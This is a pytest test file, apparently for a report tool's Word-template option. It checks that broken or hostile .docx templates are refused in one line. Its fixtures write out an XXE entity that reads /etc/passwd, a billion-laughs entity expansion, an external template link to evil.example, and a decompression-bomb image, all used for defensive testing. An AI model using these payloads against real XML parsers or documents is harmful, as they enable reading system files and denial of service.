"""A bureau's Word template (--docx-template) that is broken or hostile is refused in one line, before any
report is rendered, and a template that passes makes documents Word opens (issue 24, item 3)."""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path

import docx
import pytest

from perflib.cli import main
from perflib.present.word import open_template, setup_document

from .conftest import EXAMPLE

W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    doc = docx.Document()
    setup_document(doc)
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


def _rezip(data: bytes, replace: dict[str, bytes], *, corrupt: str | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item.filename, replace.pop(item.filename, src.read(item.filename)))
        for name, body in replace.items():
            dst.writestr(name, body)
    raw = out.getvalue()
    if corrupt:  # flip a byte inside that part's compressed data: its checksum no longer holds
        with zipfile.ZipFile(io.BytesIO(raw)) as z:
            info = z.getinfo(corrupt)
        start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra) + 5
        raw = raw[:start] + bytes([raw[start] ^ 0xFF]) + raw[start + 1:]
    return raw


LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]>'
          b'<w:document ' + W + b'><w:body><w:p><w:r><w:t>&lol2;</w:t></w:r></w:p></w:body></w:document>')
XXE = (b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document ' + W +
       b'><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>')
EXTERNAL = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId99" Type="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')


def _case(kind: str, good: bytes, path: Path) -> Path:
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "device":
        path.symlink_to("/dev/zero")
    elif kind == "not a zip":
        path.write_bytes(b"<html>not a docx</html>")
    elif kind == "malformed XML":
        path.write_bytes(_rezip(good, {"word/document.xml": b"<w:document " + W + b"><w:body><w:p>"}))
    elif kind == "bad checksum":
        path.write_bytes(_rezip(good, {}, corrupt="word/document.xml"))
    elif kind == "billion laughs":
        path.write_bytes(_rezip(good, {"word/document.xml": LAUGHS}))
    elif kind == "XXE":
        path.write_bytes(_rezip(good, {"word/document.xml": XXE}))
    elif kind == "huge picture":
        path.write_bytes(_rezip(good, {"word/media/image1.png": b"\0" * 60_000_000}))
    elif kind == "external link":
        path.write_bytes(_rezip(good, {"word/_rels/settings.xml.rels": EXTERNAL}))
    return path


CASES = [("pipe", "不是普通文件"), ("device", "不是普通文件"), ("not a zip", "不是 .docx"),
         ("malformed XML", "不是完好的 XML"), ("bad checksum", "已损坏"), ("billion laughs", "DTD"),
         ("XXE", "DTD"), ("huge picture", "压缩炸弹"), ("external link", "文件外的链接")]


@pytest.mark.parametrize(("kind", "says"), CASES, ids=[c[0] for c in CASES])
def test_a_hostile_template_is_refused_in_one_line(tmp_path: Path, good: bytes, capsys, kind: str, says: str) -> None:
    template = _case(kind, good, tmp_path / "bureau.docx")
    with pytest.raises(Exception, match=says):
        open_template(template)
    out = tmp_path / "report.docx"
    assert main(["export", str(EXAMPLE), "--to", str(out), "--docx-template", str(template)]) == 2
    err = capsys.readouterr().err
    assert says in err and "Traceback" not in err and len(err.strip().splitlines()) == 1, err
    assert not out.exists()
    outputs = tmp_path / "outputs"
    assert main(["run", "--params", str(EXAMPLE.parents[1]), "--outputs", str(outputs), "--formats", "html,docx",
                 "--docx-template", str(template), "--quiet"]) == 2
    assert says in capsys.readouterr().err and not (outputs / "index.html").exists()


def test_a_good_template_still_gives_its_look(tmp_path: Path, good: bytes) -> None:
    template = tmp_path / "bureau.docx"
    template.write_bytes(good)
    assert open_template(template) is not None
